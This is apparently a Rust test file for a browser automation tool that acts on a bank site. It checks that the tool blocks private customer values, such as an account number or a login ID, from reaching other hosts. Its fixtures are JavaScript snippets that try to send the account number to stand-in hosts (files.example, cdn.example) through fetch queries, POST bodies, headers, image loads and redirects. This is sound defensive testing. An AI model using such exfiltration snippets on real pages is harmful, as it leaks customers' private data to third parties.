//! What concerns the customer, and isn't a secret: a login ID, an account number, a value kept of a page. The bank's own pages
//! may say it to the bank, and no page says it to anybody else.

use recipe::{Method, NetworkFault, Request, Session};

use crate::bank::{Answer, Bank};
use crate::stage::{
    CountingDesk, browser, browser_at, click, login, open, short_limits, until, url,
};

const NUMBER: &str = "7654321";

fn knowing(request: Request) -> Request {
    Request {
        private: vec![NUMBER.to_owned(), "kept-of-a-page".to_owned()],
        ..request
    }
}

/// A page whose button does what this script says.
async fn bank_with(script: &str) -> Bank {
    let page = format!(
        r#"<button type="button">出す</button><p></p><script>
        const done = () => {{ document.querySelector("p").textContent = "済み"; }};
        document.querySelector("button").onclick = async () => {{ {script} }};</script>"#
    );
    Bank::open(move |seen| match seen.line.as_str() {
        "GET /page" => Answer::page(&page),
        _ => Answer::json("{}").with("Access-Control-Allow-Origin", "*"),
    })
    .await
}

async fn pressed(bank: &Bank) -> (Result<recipe::Page, NetworkFault>, Vec<String>) {
    let mut session = browser_at(bank.address, short_limits(), CountingDesk::default()).await;
    until(&mut session, &knowing(open("/page")), "出す")
        .await
        .expect("a page");
    let came = until(
        &mut session,
        &knowing(click(0, "button:nth-child(1)")),
        "済み",
    )
    .await;
    let notes = session.notes();
    session.close().await;
    (came, notes)
}

#[tokio::test]
async fn what_a_script_would_tell_another_host_is_cut_and_noted() {
    const ELSEWHERE: &str = "https://files.example/csv/x";
    for asks in [
        r#"fetch("https://files.example/csv/x?n=7654321")"#,
        r#"fetch("https://files.example/csv/7654321")"#,
        r#"fetch("https://files.example/csv/x?7654321=1")"#,
        r#"fetch("https://files.example/csv/x?k=" + encodeURIComponent("a kept-of-a-page b"))"#,
        r#"fetch("https://files.example/auth", { method: "POST", body: JSON.stringify({ n: 7654321 }) })"#,
        r#"fetch("https://files.example/auth", { method: "POST", body: new URLSearchParams({ n: "7654321" }) })"#,
        r#"(() => { const form = new FormData(); form.append("n", "7654321"); return fetch("https://files.example/auth", { method: "POST", body: form }); })()"#,
        r#"fetch("https://files.example/csv/x", { headers: { Accept: "7654321" } })"#,
        r#"new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = "https://cdn.example/lib/7654321.png"; })"#,
    ] {
        let bank = bank_with(&format!("await {asks}.catch(() => 0); done();")).await;
        let (came, notes) = pressed(&bank).await;
        came.unwrap_or_else(|fault| panic!("{asks}: {fault}"));
        assert_eq!(bank.lines(), ["GET /page"], "{asks}");
        assert!(
            notes
                .iter()
                .any(|note| note.starts_with("cut: ") && !note.contains("x?")),
            "{asks}: {notes:?}"
        );
    }
    // The same host, without anything of the customer's.
    let bank = bank_with(&format!(
        r#"await fetch("{ELSEWHERE}?d=2026-11-24"); done();"#
    ))
    .await;
    pressed(&bank).await.0.expect("a page");
    assert_eq!(bank.lines(), ["GET /page", "GET /csv/x?d=2026-11-24"]);
}

#[tokio::test]
async fn the_bank_itself_is_told() {
    let bank = bank_with(r#"await fetch("/api/lines?n=7654321"); done();"#).await;
    pressed(&bank).await.0.expect("a page");
    assert_eq!(bank.lines(), ["GET /page", "GET /api/lines?n=7654321"]);
}

#[tokio::test]
async fn a_page_that_goes_to_another_host_with_it_ends_the_walk() {
    let bank = bank_with(r#"location.href = "https://files.example/csv/x?n=7654321";"#).await;
    let (came, _) = pressed(&bank).await;
    assert!(
        matches!(&came, Err(NetworkFault::FenceBroken { to, .. }) if !to.contains(NUMBER)),
        "{came:?}"
    );
    assert_eq!(bank.lines(), ["GET /page"]);
}

#[tokio::test]
async fn the_walks_own_requests_are_held_to_it_too() {
    let bank = bank_with("done();").await;
    let mut session = browser(&bank).await;
    until(&mut session, &knowing(open("/page")), "出す")
        .await
        .expect("a page");
    let elsewhere = |act| {
        knowing(Request {
            url: url("https://files.example/csv/x?n=7654321"),
            act,
            ..open("/page")
        })
    };
    let mut posted = elsewhere(recipe::Act::Open);
    posted.method = Method::Post;
    posted.url = url("https://files.example/auth");
    let value = vec![recipe::Part::Text(NUMBER.to_owned())];
    posted.fields = vec![("n".to_owned(), value)];
    for request in [
        elsewhere(recipe::Act::Open),
        elsewhere(recipe::Act::Aside),
        posted,
    ] {
        let came = session.send(&request, &|_| true).await;
        assert!(
            matches!(came, Err(NetworkFault::FenceBroken { sent: false, .. })),
            "{:?}: {came:?}",
            request.act
        );
    }
    session.close().await;
    assert_eq!(bank.lines(), ["GET /page"]);
}

#[tokio::test]
async fn another_host_learns_neither_the_login_id_nor_the_page_that_asks() {
    let form = r#"<form action="/auth" method="post"><input name="NAME"><input type="password" name="PW"></form>"#;
    let home = r#"<p>ようこそ</p><script>
      (async () => {
        const get = (to) => fetch(to, { referrerPolicy: "unsafe-url" }).catch(() => 0);
        await get("https://files.example/csv/" + encodeURIComponent("見本　太郎"));
        await get("https://files.example/csv/fine");
        document.querySelector("p").textContent = "済み";
      })();</script>"#;
    let bank = Bank::open(move |seen| match seen.line.as_str() {
        "GET /login" => Answer::page(form),
        "POST /auth" => Answer::page(home),
        _ => Answer::json("{}").with("Access-Control-Allow-Origin", "*"),
    })
    .await;
    let mut session = browser(&bank).await;
    until(&mut session, &open("/login"), "PW")
        .await
        .expect("the form");
    until(&mut session, &login(0), "済み")
        .await
        .expect("a page");
    session.close().await;
    assert_eq!(bank.lines(), ["GET /login", "POST /auth", "GET /csv/fine"]);
    assert_eq!(bank.seen()[2].header("referer"), None);
}
